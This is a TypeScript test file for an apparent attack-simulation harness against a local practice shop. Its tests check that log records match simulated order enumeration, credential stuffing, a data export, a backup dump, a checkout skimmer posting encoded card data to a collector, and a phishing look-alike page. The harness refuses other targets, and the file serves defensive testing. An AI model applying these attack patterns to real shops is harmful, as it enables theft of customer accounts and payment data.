import { expect, test } from 'vitest';
import { openTestShop, type TestShop } from '../testing/open-test-shop.ts';
import { ordersRead, type ReadLine } from '../testing/read-log.ts';
import { sendVisitors } from '../visitors.ts';
import { type AttackTruth, refuseOthers } from './attack-truth.ts';
import { enumerateOrders } from './enumerate-orders.ts';
import { exportCustomers } from './export-customers.ts';
import { injectSkimmer } from './inject-skimmer.ts';
import { lookAlike } from './look-alike.ts';
import { loseOrders } from './lose-orders.ts';
import { stuffCredentials } from './stuff-credentials.ts';
import { takeDump } from './take-dump.ts';

/** Runs an attack among ordinary visitors and returns what it says of itself and what the log says of it. */
async function amongVisitors(shop: TestShop, attack: () => Promise<AttackTruth>): Promise<{ truth: AttackTruth; theirs: ReadLine[] }> {
  const stop = new AbortController();
  const visitors = sendVisitors(shop, { signal: stop.signal, perSecond: 60, hurry: 40 });
  const truth = await attack();
  stop.abort();
  expect((await visitors).requests).toBeGreaterThan(10);
  const theirs = (await shop.lines()).filter((each) => truth.addresses.includes(each.address));
  expect(theirs).toHaveLength(truth.requests);
  const counts: Record<string, number> = {};
  for (const each of theirs) counts[each.status] = (counts[each.status] ?? 0) + 1;
  expect(counts).toEqual(truth.statuses);
  for (const each of theirs) {
    expect(each.at.getTime()).toBeGreaterThanOrEqual(truth.startedAt.getTime() - 1000);
    expect(each.at.getTime()).toBeLessThanOrEqual(truth.endedAt.getTime() + 1000);
  }
  expect(ordersRead(theirs, truth.addresses)).toEqual(theirs.some((each) => each.path === '/backup.sql') ? [] : truth.read.orders);
  return { truth, theirs };
}

const ownersOf = (shop: TestShop, orders: readonly string[]): string[] =>
  [...new Set(orders.map((number) => shop.world.orders.find((each) => each.number === number)?.customer ?? ''))].sort();

test('enumeration: the orders it says it read are those the log shows, some numbers do not exist', async () => {
  await using shop = await openTestShop();
  const { truth } = await amongVisitors(shop, () => enumerateOrders(shop, { perSecond: 200, count: 150 }));
  expect(truth.read.orders.length).toBeGreaterThan(100);
  expect(truth.statuses[404]).toBeGreaterThan(2);
  expect(truth.read.orders.length + (truth.statuses[404] ?? 0)).toBe(150);
  expect(truth.read.customers).toEqual(ownersOf(shop, truth.read.orders));
  expect(truth.addresses).toHaveLength(2);
  expect(truth.accountsMade).toEqual(['c-0301']);
});

test('enumeration finds nothing in a shop that asks whose order it is', async () => {
  await using shop = await openTestShop({ weaknesses: { idor: false } });
  const truth = await enumerateOrders(shop, { perSecond: 500, count: 40 });
  expect(truth.read).toEqual({ orders: [], customers: [] });
});

test('stuffing: every account that was taken over signed in once, and its orders were read', async () => {
  await using shop = await openTestShop();
  const { truth, theirs } = await amongVisitors(shop, () =>
    stuffCredentials(shop, { perSecond: 200, pairs: 120, fitting: 6, addresses: 25 }),
  );
  const signIns = theirs.filter((each) => each.path === '/account/sign-in');
  expect(signIns).toHaveLength(120);
  expect(signIns.filter((each) => each.status === 303)).toHaveLength(6);
  expect(truth.accountsTakenOver).toHaveLength(6);
  expect(truth.read.customers).toEqual(truth.accountsTakenOver);
  expect(truth.read.orders).toEqual(truth.accountsTakenOver.flatMap((id) => shop.truth.ordersOf(id)).sort());
  const audited = (await shop.events()).filter((each) => truth.addresses.includes(String(each['client.address'])));
  expect(
    audited
      .filter((each) => each.event === 'shop.customer.signed_in')
      .map((each) => each['shop.actor.id'])
      .sort(),
  ).toEqual(truth.accountsTakenOver);
});

test('export: one answer holds every customer', async () => {
  await using shop = await openTestShop();
  const { truth, theirs } = await amongVisitors(shop, () => exportCustomers(shop, { stepMs: 80 }));
  const taken = theirs.filter((each) => each.path === '/admin/customers/export');
  expect(taken.map((each) => each.status)).toEqual([200]);
  expect(taken[0]?.bytes).toBeGreaterThan(20_000);
  expect(truth.read.customers).toEqual([...shop.truth.customerIds()].sort());
  const made = (await shop.events()).find((each) => each.event === 'shop.export.made');
  expect(made?.['shop.object.count']).toBe(truth.read.customers.length);
});

test('dump: everything was in it', async () => {
  await using shop = await openTestShop();
  const { truth, theirs } = await amongVisitors(shop, () => takeDump(shop));
  expect(theirs.filter((each) => each.status === 200).map((each) => each.path)).toEqual(['/backup.sql']);
  expect(truth.read.customers).toEqual([...shop.truth.customerIds()].sort());
  expect(truth.read.orders).toEqual([...shop.truth.orderNumbers()].sort());
});

test('lost orders: paid, accepted, and never packed', async () => {
  await using shop = await openTestShop();
  const truth = await loseOrders(shop, { perSecond: 60, count: 14, share: 0.5 });
  expect(truth.placed).toHaveLength(14);
  expect(truth.lost.length).toBeGreaterThan(1);
  expect(truth.lost.length).toBeLessThan(14);
  await new Promise((resolve) => setTimeout(resolve, 150));
  const events = await shop.events();
  const seen = (name: string): string[] =>
    events
      .filter((each) => each.event === name)
      .map((each) => String(each['shop.object.id']))
      .sort();
  expect(seen('shop.order.paid')).toEqual([...truth.placed].sort());
  expect(seen('shop.order.exported')).toEqual(truth.placed.filter((each) => !truth.lost.includes(each)).sort());
});

test('the skimmer changes the script that the checkout loads, and is gone afterwards', async () => {
  await using shop = await openTestShop();
  const script = async (): Promise<string> => (await fetch(`${shop.scripts.url}/checkout-helper.js`)).text();
  const clean = await script();
  const truth = await injectSkimmer(shop);
  expect(await script()).toContain(truth.collector);
  expect(truth.after).not.toBe(truth.before);
  const d = Buffer.from(JSON.stringify({ 'card-number': '4242424242424242' })).toString('base64');
  await fetch(`${truth.collector}/px`, { method: 'POST', body: new URLSearchParams({ d }) });
  expect(truth.stolen()).toEqual([['card-number']]);
  await truth.stop();
  expect(await script()).toBe(clean);
});

test('the look-alike shows the same sign-in page elsewhere, under names that cannot exist', async () => {
  await using shop = await openTestShop();
  const truth = await lookAlike(shop);
  expect(await (await fetch(truth.url)).text()).toBe(await (await fetch(`${shop.url}/account/sign-in`)).text());
  await fetch(`${truth.url}/account/sign-in`, {
    method: 'POST',
    redirect: 'manual',
    body: new URLSearchParams({ email: 'x', password: 'y' }),
  });
  expect(truth.caught()).toBe(1);
  for (const { name } of truth.names) expect(name).toMatch(/\.(test|example|invalid)$/);
  await truth.stop();
});

test('attacks refuse anything but the running practice shop', async () => {
  await using shop = await openTestShop();
  await expect(refuseOthers({ url: 'https://shop.example', runToken: shop.runToken })).rejects.toThrow('not on this machine');
  await expect(refuseOthers({ url: shop.urls.erp, runToken: shop.runToken })).rejects.toThrow('not the practice shop');
  await expect(refuseOthers({ url: shop.url, runToken: 'practice-shop other' })).rejects.toThrow('not the practice shop');
  await expect(enumerateOrders({ ...shop, url: 'http://192.0.2.1:80' })).rejects.toThrow('Refused');
});
